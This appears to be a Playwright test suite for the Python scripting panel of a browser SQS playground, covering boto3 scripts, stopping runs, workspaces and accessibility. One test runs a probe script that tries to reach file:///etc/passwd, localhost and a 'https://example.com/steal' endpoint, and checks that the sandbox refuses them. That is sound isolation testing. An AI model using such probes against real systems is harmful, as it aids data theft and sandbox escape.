// The Python panel: scripts with boto3 are pasted, run and stopped, and real boto3 talks to the page's service. What
// single scripts do is in python_scripts.spec.mjs.
import { readFile } from 'node:fs/promises';

import { expect, expectAccessible, test } from './harness.mjs';
import {
  anew,
  begin,
  body,
  clock,
  ended,
  FASTEST,
  goTo,
  head,
  KEY,
  kill,
  log,
  paste,
  pause,
  phase,
  play,
  printed,
  recording,
  run,
  runAll,
  setSpeed,
  SLOWEST,
  stage,
  stop,
  tab,
  tabs,
  transcript,
} from './python.mjs';

// What a service worker answers for, a test cannot answer for.
test.use({ serviceWorkers: 'block' });

const PRODUCER = `import time
import boto3

sqs = boto3.client("sqs", region_name="us-east-1")
url = sqs.create_queue(QueueName="work")["QueueUrl"]
for number in range(3):
    sqs.send_message(QueueUrl=url, MessageBody=f"job {number}")
    print("sent", number)
    time.sleep(60)
`;

const CONSUMER = `import boto3

sqs = boto3.resource("sqs", region_name="us-east-1")
queue = sqs.create_queue(QueueName="work")
done = 0
while done < 3:
    for message in queue.receive_messages(WaitTimeSeconds=20):
        print("got", message.body)
        message.delete()
        done += 1
`;

/** Prints each minute, for an hour. */
const MINUTES = 'import time\nfor minute in range(60):\n    print("minute", minute)\n    time.sleep(60)\n';

const hasPython = async (page) => {
  await page.goto('/');
  return (await page.locator('meta[name=python]').getAttribute('content')) !== '';
};

test.beforeEach(async ({ page }) => {
  test.skip(!(await hasPython(page)), 'this page was built without Python');
});

const notice = (page) => page.getByText('They would be ended.');

/** Makes a queue by hand. */
async function createQueue(page, name) {
  await page.getByRole('navigation', { name: 'Scenarios' }).getByRole('button', { name: 'New queue' }).click();
  await page.getByLabel('QueueName').fill(name);
  await page.keyboard.press('Enter');
}

const actorCard = (page, name) => page.locator('.actor-card').filter({ hasText: name });
const queueCard = (page, name) => page.locator('.queue-card').filter({ hasText: name });

test('a producer and a consumer come to the same at any speed, every time', async ({ page }) => {
  await begin(page, { 'producer.py': PRODUCER, 'consumer.py': CONSUMER });
  const runs = [];
  for (const speed of ['60×', FASTEST, '60×', FASTEST]) {
    await anew(page);
    await setSpeed(page, speed);
    await runAll(page);
    const printed = [];
    for (const name of ['producer.py', 'consumer.py']) {
      await tab(page, name).click();
      await ended(page, 'ended');
      printed.push(await transcript(page));
    }
    runs.push({ printed, recording: await recording(page) });
  }
  const [first, ...others] = runs;
  expect(first.printed[0].match(/sent \d/g)).toEqual(['sent 0', 'sent 1', 'sent 2']);
  expect(first.printed[1].match(/got job \d/g)).toEqual(['got job 0', 'got job 1', 'got job 2']);
  const calls = first.recording.inputs.filter(({ kind }) => kind.OutsideCall);
  expect(calls.length).toBeGreaterThan(12);
  for (const other of others) expect(other).toEqual(first);
});

test('a script is typed, and run by a key', async ({ page }) => {
  // An Enter after a word might take what completes it.
  await begin(page, { 'typed.py': 'import time\n' });
  await page.getByRole('textbox', { name: 'Code' }).click();
  await page.keyboard.press('Control+End');
  await page.keyboard.type('for n in range(2):\nprint("round", n)\ntime.sleep(1)\n');
  await page.keyboard.press('Control+Enter');
  await ended(page, 'ended');
  // What is typed there is no shortcut of the page.
  await expect(page.getByRole('dialog')).toBeHidden();
  expect(await transcript(page)).toBe('typed.py: ended, 00:02.000\n00:00.000 | round 0\n00:01.000 | round 1\n');
  await page.reload();
  await page.getByRole('tab', { name: 'Python' }).click();
  await expect(page.getByRole('textbox', { name: 'Code' })).toContainText('time.sleep(1)');
});

test('an endless loop is stopped', async ({ page }) => {
  await begin(page, { 'loop.py': 'print("on and on")\nwhile True:\n    pass\n' });
  await run(page);
  await printed(page, 'on and on');
  await stop(page);
  await ended(page, 'interrupted');
});

test('who will not be interrupted is ended', async ({ page }) => {
  const stubborn = 'import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nprint("never")\nwhile True:\n    pass\n';
  await begin(page, { 'stubborn.py': stubborn });
  await run(page);
  await printed(page, 'never');
  await stop(page);
  await kill(page);
  await ended(page, 'was ended');
});

test('output without an end is bounded, and stopped', async ({ page }) => {
  await begin(page, { 'chatter.py': 'number = 0\nwhile True:\n    number += 1\n    print("line", number)\n' });
  await setSpeed(page, FASTEST);
  await run(page);
  await printed(page, 'What came earlier is no longer kept.');
  // The page takes clicks meanwhile.
  await page.getByRole('tab', { name: 'Calls' }).click();
  await page.getByRole('tab', { name: 'Python' }).click();
  await printed(page, 'It goes on, but what it prints now is not shown.');
  const lines = (await transcript(page)).match(/line \d+/g);
  expect(lines.length).toBeGreaterThan(4800);
  expect(lines.length).toBeLessThanOrEqual(5000);
  expect(lines.at(-1)).toBe('line 100000');
  await stop(page);
  await ended(page, 'was interrupted');

  // Also in one endless line.
  await paste(page, 'while True:\n    print("wide" * 10_000, end="")\n');
  await run(page);
  await printed(page, 'What came earlier is no longer kept.');
  await printed(page, 'It goes on, but what it prints now is not shown.');
  expect((await log(page).textContent()).length).toBeLessThan(1_100_000);
  await stop(page);
  await ended(page, 'was interrupted');
});

test('a script that waits for Python need not begin', async ({ page }) => {
  let release;
  const held = new Promise((resolve) => (release = resolve));
  await page.route('**/python/*/libraries.pack', async (route) => {
    await held;
    await route.continue();
  });
  await begin(page, { 'a.py': 'print("begun")\n', 'b.py': 'print("begun, too")\n' });
  await runAll(page);
  await expect(phase(page)).toContainText('waits to begin');
  await stop(page);
  await ended(page, 'was ended');
  release();
  await tab(page, 'b.py').click();
  await ended(page, 'ended');
  await tab(page, 'a.py').click();
  await expect(phase(page)).toContainText('was ended');
  await expect(log(page)).toBeEmpty();
});

test('four scripts run at a time, and a fifth is told so', async ({ page }) => {
  const files = Object.fromEntries([1, 2, 3, 4, 5].map((number) => [`script_${number}.py`, MINUTES]));
  await begin(page, files);
  await setSpeed(page, SLOWEST);
  await runAll(page);
  await tab(page, 'script_5.py').click();
  await ended(page, 'cannot run: at most 4 scripts run at the same time');
  await tab(page, 'script_4.py').click();
  await printed(page, 'minute 0');
  await stop(page);
  await ended(page, 'was interrupted');
  await tab(page, 'script_5.py').click();
  await run(page);
  await printed(page, 'minute 0');
});

test('the same script runs again, later in the same world', async ({ page }) => {
  await begin(page, { 'again.py': `${PRODUCER}print(len(sqs.list_queues()["QueueUrls"]))\n` });
  await setSpeed(page, FASTEST);
  await run(page);
  await ended(page, 'ended');
  const first = await transcript(page);
  await run(page);
  await expect.poll(async () => (await transcript(page)) !== first).toBe(true);
  await ended(page, 'ended');
  const second = await transcript(page);
  expect(first.match(/sent \d|^.*\| \d$/gm).length).toBe(4);
  expect(second).toMatch(/\| 1\n$/);
  // The fastest speed stands still where the last script has ended.
  expect(first).toMatch(/ended, 03:00\.204\n/);
  expect(second).toMatch(/ended, 06:00\.\d{3}\n03:00\.\d{3} \| sent 0\n/);
  await expect(clock(page)).toHaveText(second.match(/ended, ([\d:.]+)/)[1]);
  await expect(queueCard(page, 'work').locator('.zone-count').nth(1)).toHaveText('6');
});

test('the set-up comes before all others', async ({ page }) => {
  const asks = 'import boto3\nprint(boto3.client("sqs").get_queue_url(QueueName="made")["QueueUrl"][-4:])\n';
  const makes = 'import boto3, time\ntime.sleep(3)\nboto3.client("sqs").create_queue(QueueName="made")\n';
  await begin(page, { 'set_up.py': makes, 'asks.py': asks });
  await runAll(page);
  await tab(page, 'asks.py').click();
  await ended(page, 'ended');
  expect(await transcript(page)).toMatch(/00:03\.\d+ \| made\n$/);
});

test('an interpreter that breaks down harms nothing', async ({ page }) => {
  const crash = 'import sys\nsys.setrecursionlimit(10**8)\ndef deeper(key):\n    return sorted([1, 2], key=deeper)\ndeeper(0)\n';
  await begin(page, { 'crash.py': crash, 'minutes.py': MINUTES });
  await setSpeed(page, FASTEST);
  await runAll(page);
  await ended(page, 'the interpreter broke off: The script called itself so deeply');
  await tab(page, 'minutes.py').click();
  await ended(page, 'ended');
  await expect(page.locator('.python-end')).toHaveText('1:00:00.000');
  await createQueue(page, 'by-hand');
  await expect(queueCard(page, 'by-hand')).toBeVisible();
  await tab(page, 'crash.py').click();
  await paste(page, 'print("well again")\n');
  await run(page);
  await printed(page, 'well again');
});

test('to act in the past ends scripts, after asking', async ({ page }) => {
  await begin(page, { 'minutes.py': MINUTES });
  await setSpeed(page, SLOWEST);
  await run(page);
  await printed(page, 'minute 0');
  await pause(page);
  await goTo(page, 150_000);
  await expect(log(page)).toContainText('minute 2');
  // To look back harms nobody, and to act at the edge neither.
  await goTo(page, 30_000);
  await goTo(page, 150_000);
  await createQueue(page, 'at-the-edge');
  await expect(queueCard(page, 'at-the-edge')).toBeVisible();
  await expect(phase(page)).toContainText('runs');

  await goTo(page, 30_000);
  await createQueue(page, 'in-the-past');
  await expect(notice(page)).toBeVisible();
  await expectAccessible(page);
  await page.getByRole('button', { name: 'Dismiss' }).click();
  await expect(notice(page)).toBeHidden();
  await expect(queueCard(page, 'in-the-past')).toHaveCount(0);
  await expect(phase(page)).toContainText('runs');

  await page.getByRole('button', { name: 'Undo' }).click();
  await expect(notice(page)).toBeVisible();
  await page.getByRole('button', { name: 'Dismiss' }).click();
  await page.getByRole('button', { name: 'First queue' }).click();
  await expect(notice(page)).toBeVisible();
  await page.getByRole('button', { name: 'End them' }).click();
  await ended(page, 'was ended');
  await expect(page.getByRole('heading', { level: 2, name: 'First queue' })).toBeVisible();
  await expect(clock(page)).toHaveText('00:00.000');
});

test('another run is opened when the scripts that run have ended, and each workspace keeps its own', async ({ page }) => {
  await begin(page, { 'minutes.py': MINUTES });
  await createQueue(page, 'other');
  const row = (name) => page.getByRole('dialog').locator('.workspaces > li').filter({ hasText: name });
  const files = () => page.getByRole('button', { name: 'Files', exact: true }).click();
  await files();
  await page.getByRole('button', { name: /^Rename/ }).click();
  await page.getByLabel('Name of the workspace').fill('Other');
  await page.keyboard.press('Enter');
  await expect(row('Other')).toBeVisible();
  await page.getByRole('button', { name: 'New workspace' }).click();
  await expect(queueCard(page, 'other')).toHaveCount(0);
  await setSpeed(page, '100×');
  await run(page);
  await printed(page, 'minute 1');

  // Who goes on keeps the scripts.
  const open = async (name) => {
    await files();
    await page.getByRole('button', { name: `Open: ${name}`, exact: true }).click();
  };
  await open('Other');
  await expect(notice(page)).toBeVisible();
  await page.getByRole('button', { name: 'Dismiss' }).click();
  await printed(page, 'minute 4');
  await expect(queueCard(page, 'other')).toHaveCount(0);

  await open('Other');
  await page.getByRole('button', { name: 'End them' }).click();
  await ended(page, 'was ended');
  await expect(queueCard(page, 'other')).toBeVisible();
  await createQueue(page, 'another');
  await expect(queueCard(page, 'another')).toBeVisible();
  await page.reload();
  await expect(queueCard(page, 'another')).toBeVisible();
  await open('Your own world');
  await expect(actorCard(page, 'minutes.py')).toContainText('was ended');
  await expect(queueCard(page, 'other')).toHaveCount(0);
});

test('a reload ends the scripts that run', async ({ page }) => {
  await begin(page, { 'minutes.py': MINUTES });
  await setSpeed(page, '100×');
  await run(page);
  await printed(page, 'minute 2');
  await page.reload();
  await expect(actorCard(page, 'minutes.py')).toContainText('was ended');
  await expect.poll(async () => (await clock(page).innerText()) > '02:00').toBe(true);
});

test('scripts end with the workbench, should it break', async ({ page }) => {
  await page.route('**/workbench.js*', async (route) => {
    const response = await route.fetch();
    const start = 'export function start(ask, listen, broken) {';
    const body = (await response.text()).replace(start, `${start} globalThis.breakWorkbench = broken;`);
    await route.fulfill({ response, body });
  });
  await begin(page, { 'minutes.py': MINUTES });
  await setSpeed(page, '100×');
  await run(page);
  await printed(page, 'minute 2');
  await page.evaluate(() => breakWorkbench());
  await expect(actorCard(page, 'minutes.py')).toContainText('was ended');
  await createQueue(page, 'later');
  await expect(queueCard(page, 'later')).toBeVisible();
});

test('a script goes on behind another tab, and ends with its actor', async ({ page }) => {
  await begin(page, { 'minutes.py': MINUTES });
  await setSpeed(page, '100×');
  await run(page);
  await printed(page, 'minute 0');
  await page.getByRole('tab', { name: 'Calls' }).click();
  await expect.poll(async () => (await clock(page).innerText()) > '02:00').toBe(true);
  await page.getByRole('tab', { name: 'Python' }).click();
  await expect(log(page)).toContainText('minute 1');
  await page.getByRole('complementary').getByRole('button', { name: 'minutes.py', exact: true }).click();
  await page.getByRole('complementary').getByRole('button', { name: 'Remove', exact: true }).click();
  await page.getByRole('button', { name: 'Remove it' }).click();
  await ended(page, 'was ended');
});

test('pasted code has no page, no storage and no network', async ({ page }) => {
  const hostile = `import importlib, urllib.request, socket
for name in ("js", "pyodide_js", "pyodide.http", "micropip", "webbrowser"):
    try:
        module = importlib.import_module(name)
        print(name, [part for part in ("fetch", "localStorage", "document", "indexedDB", "postMessage", "self") if hasattr(module, part)])
    except ImportError as error:
        print(name, "refused")
for address in ("https://example.com/", "http://127.0.0.1:8302/", "file:///etc/passwd"):
    try:
        urllib.request.urlopen(address)
        print("open:", address)
    except OSError as error:
        print("refused:", address)
import boto3
for client in (boto3.client("sqs", endpoint_url="https://example.com/steal"), boto3.client("sqs", region_name="eu-west-1")):
    print("sent to", client.list_queues()["ResponseMetadata"]["HTTPStatusCode"])
`;
  await begin(page, { 'warm.py': 'print("warm")\n', 'hostile.py': hostile });
  await run(page);
  await ended(page, 'ended');
  const mine = () => page.evaluate(() => [document.title, Object.keys(localStorage).filter((key) => !key.startsWith('sqs-playground/'))]);
  const before = await mine();
  const requests = [];
  page.on('request', (request) => requests.push(request.url()));
  await tab(page, 'hostile.py').click();
  await run(page);
  await ended(page, 'ended');
  const text = await transcript(page);
  expect(text.replaceAll(/^\S+ [|!] /gm, '').split('\n').slice(1)).toEqual([
    'js refused',
    'pyodide_js refused',
    'pyodide.http refused',
    'micropip refused',
    'webbrowser []',
    'refused: https://example.com/',
    'refused: http://127.0.0.1:8302/',
    'refused: file:///etc/passwd',
    'sent to 200',
    '[The playground has one region, us-east-1; what is in eu-west-1 is the same.]',
    'sent to 200',
    '',
  ]);
  // A spare interpreter is made for the next script, of what is there.
  expect(requests.filter((url) => !/\/python\/\w+\/[\w.]+\.mjs$/.test(url))).toEqual([]);
  expect(await mine()).toEqual(before);
});

test('a link to a run with scripts replays without Python, and starts none', async ({ page, browser }) => {
  await begin(page, { 'producer.py': PRODUCER, 'consumer.py': CONSUMER });
  await setSpeed(page, FASTEST);
  await runAll(page);
  for (const name of ['producer.py', 'consumer.py']) {
    await tab(page, name).click();
    await ended(page, 'ended');
  }
  await goTo(page, 90_000);
  // The words follow the picture a little later.
  await expect.poll(() => stage(page)).toContain('sleeping');
  await page.getByRole('button', { name: 'Share', exact: true }).click();
  const link = await page.getByRole('dialog').getByLabel('Link', { exact: true }).inputValue();
  await page.keyboard.press('Escape');
  const before = await stage(page);

  const context = await browser.newContext({ serviceWorkers: 'block' });
  const other = await context.newPage();
  const requests = [];
  other.on('request', (request) => requests.push(request.url()));
  await other.goto(link);
  await expect(clock(other)).toHaveText('01:30.000');
  await expect.poll(() => stage(other)).toBe(before);
  await setSpeed(other, FASTEST);
  await play(other);
  await expect.poll(async () => (await clock(other).innerText()) > '03:00').toBe(true);
  expect(requests.filter((url) => url.includes('/python/'))).toEqual([]);
  expect(other.workers()).toEqual([]);
  // The files are this browser's own, and wait for somebody to run them.
  await other.getByRole('tab', { name: 'Python' }).click();
  await expect(tabs(other)).toHaveCount(2);
  await expect(other.locator('.python-welcome')).toBeVisible();
  expect(other.workers()).toEqual([]);
  await context.close();
});

test('the files go home', async ({ page }) => {
  const files = { 'mine.py': 'import settings\nprint("mine")\n', 'settings.py': 'LIMIT = 3\n', 'data.json': '{"ü": 1}' };
  await begin(page, files);
  const downloads = [];
  page.on('download', (download) => downloads.push(download));
  await page.getByRole('button', { name: 'Download the 3 files' }).click();
  await expect.poll(() => downloads.length).toBe(3);
  for (const download of downloads) {
    expect(await readFile(await download.path(), 'utf8')).toBe(files[download.suggestedFilename()]);
  }
  await page.getByRole('button', { name: 'Remove', exact: true }).click();
  await expect(page.getByRole('button', { name: 'Download the 2 files' })).toBeVisible();
});

test('an error leads to its line', async ({ page }) => {
  await begin(page, { 'wrong.py': 'def f():\n    return 1 / 0\n\n\nf()\n' });
  await run(page);
  await ended(page, 'ZeroDivisionError');
  await page.getByRole('button', { name: 'wrong.py:2 f' }).click();
  await expect(page.locator('.ed-line-error')).toContainText('return 1 / 0');
});

test('a script asks its person', async ({ page }) => {
  await begin(page, { 'ask.py': 'name = input("Who? ")\nprint("\\x1b[32mhello", name)\n' });
  await run(page);
  await page.getByLabel('Who?').fill('Ada', { timeout: 90_000 });
  await page.keyboard.press('Enter');
  await ended(page, 'ended');
  await expect(log(page).locator('.ansi-2')).toHaveText(/hello Ada/);
});

test('a scenario is shown as Python', async ({ page }) => {
  await page.goto('/');
  await page.getByRole('button', { name: 'Slow and fast' }).click();
  await page.getByRole('tab', { name: 'Python' }).click();
  await head(page).getByRole('button', { name: 'Show as Python' }).click();
  await head(page).getByRole('button', { name: 'In an empty world' }).click();
  await expect(tab(page, 'set_up.py')).toBeVisible();
  await expect(page.locator('.python-editor')).toContainText('boto3');
});

test('a browser that cannot run Python is told which can', async ({ page }) => {
  const script = 'export const isSupported = () => false; export const BROWSERS = "Others";';
  await page.route('**/python/*/host.mjs', (route) => route.fulfill({ contentType: 'text/javascript', body: script }));
  await begin(page, { 'a.py': 'print(1)\n' });
  await run(page);
  await expect(body(page).getByRole('alert')).toContainText('Others can');
});

test('a page without the bundle says how to have it', async ({ page }) => {
  await page.route((url) => url.pathname === '/', async (route) => {
    const response = await route.fetch();
    const html = await response.text();
    await route.fulfill({ response, body: html.replace(/name="python" content="[^"]*"/, 'name="python" content=""') });
  });
  await begin(page, { 'a.py': 'print(1)\n' });
  await expect(body(page).getByRole('alert')).toContainText('--without-python');
  await expect(page.getByRole('textbox', { name: 'Code' })).toHaveValue('print(1)\n');
});

for (const colorScheme of ['dark', 'light']) {
  test(`the panel is accessible, ${colorScheme}`, async ({ page }) => {
    await page.emulateMedia({ colorScheme });
    await begin(page, { 'a.py': 'import sys\nprint("out")\nprint("err", file=sys.stderr)\n'
      + 'for n in range(8):\n    for code in f"4{n}", f"3{n}", f"3{n};4{(n + 3) % 8}":\n        print(f"\\x1b[{code}mtext\\x1b[0m")\n' });
    await run(page);
    await ended(page, 'ended');
    await expectAccessible(page);
  });
}

const code = (page) => page.getByRole('textbox', { name: 'Code' });
const button = (page, name) => head(page).getByRole('button', { name, exact: true });
const keptFiles = (page) => page.evaluate((key) => JSON.parse(localStorage.getItem(key))?.files, KEY);

for (const [from, start] of [
  ['the editor', async (page) => { await code(page).focus(); await page.keyboard.press('Control+Enter'); }],
  ['Run', async (page) => { await button(page, 'Run').focus(); await page.keyboard.press('Enter'); }],
]) {
  test(`who starts a script from ${from} answers it with the keyboard alone`, async ({ page }) => {
    const asks = 'first = input("First? ")\nsecond = input("Second? ")\nprint(first, "and", second)\n';
    await begin(page, { 'ask.py': asks });
    await start(page);
    await expect(page.getByLabel('First?')).toBeFocused({ timeout: 90_000 });
    await page.keyboard.type('one\n');
    // Also what is typed before the next question is an answer, and nothing else.
    await page.keyboard.type('tw');
    await expect(page.getByLabel('Second?')).toBeFocused();
    await page.keyboard.type('o\n');
    await ended(page, 'ended');
    await printed(page, 'one and two');
    await expect(log(page)).toBeFocused();
    await expect(code(page)).toContainText('print(first, "and", second)');
    expect((await keptFiles(page))[0].text).toBe(asks);
  });
}

test('a question takes the keyboard from nobody who is elsewhere', async ({ page }) => {
  await begin(page, { 'ask.py': 'import time\nprint("begun")\ntime.sleep(8)\ninput("Later? ")\n' });
  await run(page);
  await printed(page, 'begun');
  await page.getByRole('button', { name: 'Share', exact: true }).click();
  const dialog = page.getByRole('dialog');
  const link = dialog.getByLabel('Link', { exact: true });
  await link.focus();
  await expect(page.locator('.python-line')).toContainText('Later?', { timeout: 30_000 });
  await expect(link).toBeFocused();
});

test('a file that was removed is put back', async ({ page }) => {
  const files = { 'a.py': { text: 'print("of a")\n', arguments: '-n 5' }, 'b.py': 'print("of b")\n' };
  await begin(page, files);
  const before = await keptFiles(page);
  await run(page);
  await ended(page, 'ended');
  const remove = body(page).getByRole('button', { name: 'Remove', exact: true });
  await remove.click();
  await expect(head(page).getByRole('status')).toHaveText('a.py was removed.');
  await expect(tabs(page)).toHaveCount(1);
  await expectAccessible(page);
  await expect(button(page, 'Put back')).toBeFocused();
  await page.keyboard.press('Enter');
  await expect(button(page, 'Put back')).toBeHidden();
  await expect(remove).toBeFocused();
  await expect(tabs(page).first()).toContainText('a.py');
  await expect(tabs(page).first()).toHaveAttribute('aria-pressed', 'true');
  await expect(code(page)).toContainText('of a');
  await expect(page.getByLabel('Arguments')).toHaveValue('-n 5');
  await printed(page, 'of a');
  expect(await keptFiles(page)).toEqual(before);

  // What is done next with the files goes on from there.
  await remove.click();
  await page.getByRole('tab', { name: 'Calls' }).click();
  await page.getByRole('tab', { name: 'Python' }).click();
  await expect(button(page, 'Put back')).toBeVisible();
  await body(page).getByRole('button', { name: 'New file' }).click();
  await expect(button(page, 'Put back')).toBeHidden();
  expect((await keptFiles(page)).map(({ name }) => name)).toEqual(['b.py', 'script_1.py']);
  await page.getByLabel('Name', { exact: true }).fill('a.py');
  await page.keyboard.press('Enter');
  await expect(tab(page, 'a.py')).toBeVisible();
  await expect(page.locator('.python-welcome')).toBeVisible();
});

test('a double click on Run does not stop it', async ({ page }) => {
  await begin(page, { 'minutes.py': MINUTES });
  await setSpeed(page, SLOWEST);
  await button(page, 'Run').dblclick();
  await printed(page, 'minute 0');
  await expect(phase(page)).toContainText('runs');
  await expect(button(page, 'Stop')).toBeVisible();
  // And one on Stop does not end what may still tidy up.
  await button(page, 'Stop').dblclick();
  await ended(page, 'was interrupted');
});

test('a name that is refused is told why', async ({ page }) => {
  await begin(page, { 'a.py': 'print(1)\n', 'b.py': 'print(2)\n' });
  const name = page.getByLabel('Name', { exact: true });
  const why = body(page).getByRole('alert');
  for (const [typed, words] of [
    ['b.py', 'Another file is called b.py.'],
    [' ', 'A file needs a name.'],
    ['folder/a.py', 'no folders'],
    [`${'long_'.repeat(13)}.py`, 'at most 64 characters'],
  ]) {
    await name.fill(typed);
    await page.keyboard.press('Enter');
    await expect(why).toContainText(words);
    await expect(name).toHaveValue(typed);
    await expect(name).toHaveAttribute('aria-invalid', 'true');
    await expect(name).toHaveAccessibleDescription(new RegExp(words));
    await expect(tab(page, 'a.py')).toHaveAttribute('aria-pressed', 'true');
  }
  await expectAccessible(page);
  await name.fill('c.py');
  await expect(why).toBeHidden();
  await page.keyboard.press('Tab');
  await expect(tab(page, 'c.py')).toHaveAttribute('aria-pressed', 'true');
  await expect(page.getByLabel('Arguments')).toBeFocused();
  await name.fill('b.py');
  await page.keyboard.press('Enter');
  await expect(why).toBeVisible();
  await tab(page, 'b.py').click();
  await expect(why).toBeHidden();
  await expect(name).toHaveValue('b.py');
});

test('a script that is renamed keeps its run', async ({ page }) => {
  const wrong = 'import boto3\nboto3.client("sqs").create_queue(QueueName="work")\ndef f():\n    return 1 / 0\n\n\nf()\n';
  await begin(page, { 'wrong.py': wrong });
  await run(page);
  await ended(page, 'ZeroDivisionError');
  const name = page.getByLabel('Name', { exact: true });
  await name.fill('right.py');
  await page.keyboard.press('Enter');
  await expect(phase(page)).toContainText('right.py');
  await expect(phase(page)).toContainText('ZeroDivisionError');
  await expect(tab(page, 'right.py')).toContainText('✗');
  await page.getByRole('button', { name: 'right.py:4 f' }).click();
  await expect(page.locator('.ed-line-error')).toContainText('return 1 / 0');
  await page.getByRole('tab', { name: 'Calls' }).click();
  await page.getByRole('table', { name: /^Calls/ }).getByRole('button', { name: 'wrong.py:2' }).click();
  await expect(tab(page, 'right.py')).toHaveAttribute('aria-pressed', 'true');
  await expect(page.locator('.ed-line-now')).toContainText('create_queue');
});

test('the output has room', async ({ page }) => {
  await page.setViewportSize({ width: 1440, height: 900 });
  const long = 'What is the name of the queue that the messages are to be sent to, and how many of them?';
  await begin(page, { 'wide.py': `import boto3\ninput("${long} ")\nboto3.client("sqs").get_queue_url(QueueName="nowhere")\n` });
  await run(page);
  const input = page.getByLabel(long);
  await expect(input).toBeVisible({ timeout: 90_000 });
  const label = await page.locator('.python-line label').boundingBox();
  const field = await input.boundingBox();
  expect(label.width).toBeGreaterThan(300);
  expect(field.y).toBeGreaterThanOrEqual(label.y + label.height);
  await input.press('Enter');
  await ended(page, 'NonExistentQueue');
  const { hidden, share, characters } = await page.evaluate(() => {
    const width = (selectors) => document.querySelector(selectors).getBoundingClientRect().width;
    const phase = document.querySelector('.python-phase');
    const text = document.querySelector('.python-time + span');
    const size = Number.parseFloat(getComputedStyle(text).fontSize);
    return {
      hidden: phase.scrollHeight - phase.clientHeight,
      share: width('.python-out') / width('.dock-body'),
      characters: width('.python-time + span') / (size * 0.61),
    };
  });
  expect(hidden).toBe(0);
  expect(share).toBeGreaterThan(0.45);
  expect(characters).toBeGreaterThan(38);
});

test('a file beside the scripts is their environment', async ({ page }) => {
  await begin(page, {
    'reads.py': 'import os\nprint(os.environ["QUEUE_NAME"], os.environ["GREETING"], len(os.environ["HOME"]) > 0)\n',
    '.env': '# for all scripts\nexport QUEUE_NAME=orders\nGREETING="good day"\n',
  });
  await run(page);
  await ended(page, 'ended');
  expect(await transcript(page)).toContain('| orders good day True\n');
});

test('to run a script in the past of others asks, and ends those', async ({ page }) => {
  await begin(page, { 'minutes.py': MINUTES, 'late.py': 'print("here")\n' });
  await setSpeed(page, '100×');
  await run(page);
  await printed(page, 'minute 2');
  await pause(page);
  await goTo(page, 30_000);
  await tab(page, 'late.py').click();
  await run(page);
  await expect(notice(page)).toBeVisible();
  await expect(page.getByRole('button', { name: 'Play', exact: true })).toBeVisible();
  await expect(clock(page)).toHaveText('00:30.000');
  await page.getByRole('button', { name: 'End them' }).click();
  await ended(page, 'ended');
  expect(await transcript(page)).toBe('late.py: ended, 00:30.000\n00:30.000 | here\n');
  await expect(actorCard(page, 'minutes.py')).toContainText('was ended');
  await tab(page, 'minutes.py').click();
  await ended(page, 'was ended');
});
